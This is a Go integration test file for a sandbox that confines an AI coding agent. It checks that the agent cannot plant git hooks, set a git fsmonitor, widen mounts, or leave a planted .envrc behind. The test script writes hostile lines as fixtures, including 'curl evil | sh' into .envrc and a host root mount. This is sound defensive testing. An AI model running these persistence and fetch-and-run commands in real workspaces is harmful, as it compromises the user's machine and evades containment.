//go:build integration

package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestE2EProtectedPaths: inside a real container the agent cannot rewrite
// the project config, plant a git hook or change .git/config; what it
// creates where nothing was (.envrc) is moved aside after the session, and
// launch says so.
func TestE2EProtectedPaths(t *testing.T) {
	forEachBackend(t, func(t *testing.T, s *session) {
		s.write(filepath.Join(s.ws, ".launch.toml"), "network = \"none\"\n")
		s.write(filepath.Join(s.ws, ".git/config"), "[core]\n\tbare = false\n")
		s.write(filepath.Join(s.ws, ".git/hooks/pre-commit.sample"), "#!/bin/sh\n")
		s.write(filepath.Join(s.ws, ".git/HEAD"), "ref: refs/heads/main\n")
		script := `
try() { if ( eval "$1" ) 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
try 'echo "mounts = [\"/:/host\"]" >> .launch.toml' .launch.toml
try 'echo "#!/bin/sh" > .git/hooks/post-checkout' hook
try 'printf "[core]\n\tfsmonitor = /tmp/x\n" >> .git/config' config
try 'echo ref > .git/HEAD' HEAD
try 'echo "curl evil | sh" > .envrc' .envrc
`
		out, errs, code := s.run("", "--yes", "shell", script)
		if code != 0 {
			t.Fatalf("exit %d; stderr %s", code, errs)
		}
		for _, want := range []string{"refused .launch.toml", "refused hook", "refused config", "WROTE HEAD", "WROTE .envrc"} {
			if !strings.Contains(out, want) {
				t.Errorf("inside the container: want %q; got\n%s", want, out)
			}
		}
		if b, _ := os.ReadFile(filepath.Join(s.ws, ".launch.toml")); string(b) != "network = \"none\"\n" {
			t.Errorf(".launch.toml on the host is now %q", b)
		}
		if _, err := os.Stat(filepath.Join(s.ws, ".git/hooks/post-checkout")); err == nil {
			t.Error("the planted hook is on the host")
		}
		if _, err := os.Lstat(filepath.Join(s.ws, ".envrc")); err == nil {
			t.Error(".envrc created by the session is still in place")
		}
		moved, _ := filepath.Glob(filepath.Join(s.ws, ".envrc.launch-quarantine-*"))
		if len(moved) != 1 {
			t.Errorf("want .envrc moved aside once, got %q", moved)
		}
		if !strings.Contains(errs, "changed protected workspace paths") || !strings.Contains(errs, ".envrc (created) -> ") {
			t.Errorf("stderr does not report the moved .envrc:\n%s", errs)
		}
	})
}

// TestE2EUntrustedInputRefusedBeforeStart: a --ro path whose link leaves
// the workspace, a widening project file, and a trusted one changed since,
// are each refused before anything starts.
func TestE2EUntrustedInputRefusedBeforeStart(t *testing.T) {
	forEachBackend(t, func(t *testing.T, s *session) {
		marker := filepath.Join(s.ws, "started")
		start := "touch " + marker
		if err := os.Symlink(s.home, filepath.Join(s.ws, "link")); err != nil {
			t.Fatal(err)
		}
		if _, errs, code := s.run("", "--yes", "--ro", "link", "shell", start); code != 2 || !strings.Contains(errs, "outside the workspace") {
			t.Errorf("--ro through a link leaving the workspace: exit %d, stderr %s", code, errs)
		}
		s.write(filepath.Join(s.ws, ".launch.toml"), "mounts = [\""+s.home+":/h:ro\"]\n")
		if _, errs, code := s.run("", "--yes", "shell", start); code != 2 || !strings.Contains(errs, "is not trusted") {
			t.Errorf("untrusted widening project file: exit %d, stderr %s", code, errs)
		}
		if _, errs, code := s.run("", "trust"); code != 0 {
			t.Fatalf("launch trust: exit %d, stderr %s", code, errs)
		}
		if out, errs, code := s.run("", "--yes", "shell", "ls /h >/dev/null && echo mounted"); code != 0 || !strings.Contains(out, "mounted") {
			t.Errorf("trusted project file: exit %d, stdout %q, stderr %s", code, out, errs)
		}
		// Someone (the agent, in an earlier session) changes it.
		s.write(filepath.Join(s.ws, ".launch.toml"), "mounts = [\""+s.home+":/h\"]\n")
		if _, errs, code := s.run("", "--yes", "shell", start); code != 2 || !strings.Contains(errs, "changed since you trusted it") {
			t.Errorf("changed trusted file: exit %d, stderr %s", code, errs)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Error("a refused launch started the container")
		}
	})
}

// TestE2EWorktree: in a workspace that is a git worktree, git works inside
// (status, log) with the git directory read-only; with --git-dir-writable
// the agent commits, and still cannot plant a hook in the common git
// directory. The host's git (Debian's, like the image) is mounted in.
func TestE2EWorktree(t *testing.T) {
	forEachBackend(t, func(t *testing.T, s *session) {
		main := filepath.Join(s.home, "main")
		s.write(filepath.Join(main, "README"), "hello\n")
		git := func(dir string, args ...string) {
			c := s.command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@e"}, args...)...)
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("git %q: %v: %s", args, err, out)
			}
		}
		git(main, "init", "-q", "-b", "main")
		git(main, "add", "README")
		git(main, "commit", "-q", "-m", "first")
		git(main, "worktree", "add", "-q", "-b", "wt", s.ws)
		s.backend.flags = s.backend.debian
		probe := `git status --short --branch; git log --oneline | wc -l; ` +
			`if git -c user.name=a -c user.email=a@e commit -q --allow-empty -m agent 2>/dev/null; then echo COMMITTED; else echo no-commit; fi; ` +
			`if (echo evil > ` + main + `/.git/hooks/post-checkout) 2>/dev/null; then echo HOOK; else echo no-hook; fi`
		common := []string{"--yes", "--mount", "/usr/bin/git:/usr/bin/git:ro"}
		out, errs, code := s.run("", append(common, "shell", probe)...)
		if code != 0 || !strings.Contains(out, "## wt") || !strings.Contains(out, "\n1\n") || !strings.Contains(out, "no-commit") || !strings.Contains(out, "no-hook") {
			t.Errorf("read-only git directory: exit %d, stdout:\n%s\nstderr:\n%s", code, out, errs)
		}
		out, errs, code = s.run("", append(common, "--git-dir-writable", "shell", probe)...)
		if code != 0 || !strings.Contains(out, "COMMITTED") || !strings.Contains(out, "no-hook") {
			t.Errorf("writable git directory: exit %d, stdout:\n%s\nstderr:\n%s", code, out, errs)
		}
	})
}
